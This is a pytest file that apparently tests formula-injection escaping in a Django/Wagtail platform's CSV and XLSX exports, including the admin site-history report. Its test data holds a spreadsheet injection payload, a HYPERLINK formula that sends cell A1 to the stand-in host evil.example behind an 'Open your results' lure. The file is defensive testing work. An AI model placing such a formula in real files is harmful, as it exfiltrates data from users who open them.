"""Formula-safe spreadsheets everywhere one leaves Hunar, Wagtail's own exports included
(issue 12, finding 8): a cell that a spreadsheet would run (``=HYPERLINK(...)``) arrives as text."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.log_actions import log

from lms import csv_safe
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open your results")'
SITE_HISTORY = "/admin/reports/site-history/"


@pytest.fixture
def logged_formula(home):
    """A page whose title is a formula, and the site-history entry that names it."""
    from content.models import StandardPage

    page = home.add_child(instance=StandardPage(title=FORMULA, slug="about"))
    log(instance=page, action="wagtail.edit")
    return page


def _download(client, fmt):
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    response = client.get(SITE_HISTORY, {"export": fmt})
    assert response.status_code == 200
    return response


def test_wagtail_site_history_csv_is_formula_safe(client, logged_formula):
    response = _download(client, "csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert FORMULA not in names


def test_wagtail_site_history_xlsx_is_formula_safe(client, logged_formula):
    response = _download(client, "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULA in names


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+92 300 1234567", "'+92 300 1234567"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Amina", "Amina"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_the_rule(value, expected):
    assert csv_safe.neutralize(value) == expected


def test_hunar_and_wagtail_exports_share_one_rule():
    from assessments import analysis
    from reports import exports

    assert exports.neutralize is csv_safe.neutralize
    assert analysis.neutralize is csv_safe.neutralize
